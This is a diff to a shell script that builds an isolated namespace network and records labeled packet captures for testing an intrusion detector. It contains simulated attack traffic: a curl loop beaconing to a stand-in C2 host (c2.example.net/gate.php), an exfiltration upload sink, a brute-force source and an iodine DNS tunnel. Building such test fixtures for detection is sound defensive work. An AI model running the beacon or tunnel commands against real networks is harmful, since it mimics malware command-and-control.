@@ -38,8 +38,12 @@ WAN_ROUTER=192.0.2.2; WAN_INET=192.0.2.1
 INET_WEB=203.0.113.10      # www.example.com, the beacon's C2 and the benign web
 INET_IODINE=203.0.113.53   # iodined: authoritative for t.example.test
 INET_DNS=198.51.100.53     # the router's upstream resolver
-INET_ATTACKER=203.0.113.66 # source of the inbound brute force
-INET_SINK=203.0.113.99     # upload sink
+INET_ATTACKER=192.0.47.66  # source of the inbound brute force (public, as the C2 and sink below)
+# Beacon C2 and upload sink sit on public (non-documentation) addresses: the engine, like Zeek's
+# Site::private_address_space, counts 198.51.100/24 and 203.0.113/24 as local, and beaconing and
+# exfiltration are about the internet. IANA's own addresses: nothing here leaves the namespaces.
+INET_C2=93.184.215.14      # c2.example.net, the beacon's C2
+INET_SINK=192.0.43.10      # upload sink
 INET_NTP=203.0.113.123
 INET_VICTIM=203.0.113.200  # flood victim: routed to vs-inet, which does not answer (outside its local ranges)
 
@@ -176,7 +180,7 @@ build_network() {
   # 203.0.113.128/25 is routed here but answers nothing.
   ip netns exec vs-inet ip route add local 198.51.100.0/24 dev lo
   ip netns exec vs-inet ip route add local 203.0.113.0/25 dev lo
-  for a in "$INET_WEB" "$INET_IODINE" "$INET_DNS" "$INET_ATTACKER" "$INET_SINK" "$INET_NTP"; do
+  for a in "$INET_WEB" "$INET_C2" "$INET_IODINE" "$INET_DNS" "$INET_ATTACKER" "$INET_SINK" "$INET_NTP"; do
     ip netns exec vs-inet ip addr add "$a/32" dev lo
   done
   # LAN reached through the router (plain routing: on the LAN this looks like a port forward);
@@ -278,7 +282,7 @@ start_services() {
     --listen-address="$INET_DNS" --bind-interfaces \
     --host-record=www.example.com,"$INET_WEB",2001:db8::10 \
     --host-record=updates.example.com,"$INET_WEB",2001:db8::10 \
-    --host-record=c2.example.net,"$INET_WEB",2001:db8::10 \
+    --host-record=c2.example.net,"$INET_C2",2001:db8::10 \
     --host-record=time.example.org,"$INET_NTP",2001:db8::123
   daemon iodined vs-inet iodined -f -c -P vigilpw -l "$INET_IODINE" -p 53 10.53.0.1/27 t.example.test
   # the router: DNS forwarder and the legitimate DHCP server
@@ -518,11 +522,11 @@ sc_beacon-curl() {
   capture_start "$OUT/$1.pcap" 200 20000
   # 60 requests, 2 s apart with up to 0.3 s of jitter
   run 300 vs-cam sh -c "for i in \$(seq 1 60); do
-      curl -s -m 3 -o /dev/null -A 'Mozilla/4.0' -H 'Host: c2.example.net' 'http://$INET_WEB/gate.php?id=cam01&i='\$i
+      curl -s -m 3 -o /dev/null -A 'Mozilla/4.0' -H 'Host: c2.example.net' 'http://$INET_C2/gate.php?id=cam01&i='\$i
       sleep 2.\$(shuf -i 0-3 -n 1)
     done"
   capture_stop
-  label "$1" "curl $(pkgver curl) in a loop: curl -s -H 'Host: c2.example.net' http://$INET_WEB/gate.php?id=cam01, 60 times, every 2-2.3 s" \
+  label "$1" "curl $(pkgver curl) in a loop: curl -s -H 'Host: c2.example.net' http://$INET_C2/gate.php?id=cam01, 60 times, every 2-2.3 s" \
     "The camera calls the same internet server every 2 s with small jitter (a C2 beacon, compressed in time: the config lowers the span and count)." \
     false '{"detect.beacon.minSpanSeconds": 100, "detect.beacon.minConnections": 20}' \
     "$(expl "$(exp beacon "$MAC_CAM")")"
@@ -546,7 +550,7 @@ sc_telnet-login() {
   capture_stop
   label "$1" "busybox $(bbver) telnetd on the camera; a scripted telnet client (python telnetlib) logs in once" \
     "The laptop logs in to the camera's telnetd with the right password at the first try, runs a command and logs out." \
-    false '{}' "$(expl "$(exp cleartext.login null)" "$(exp unsafe.telnet_exposed "$MAC_CAM")")"
+    false '{}' "$(expl "$(exp cleartext.login "$MAC_LAPTOP")" "$(exp unsafe.telnet_exposed "$MAC_CAM")")"
 }
 
 sc_benign-home() {
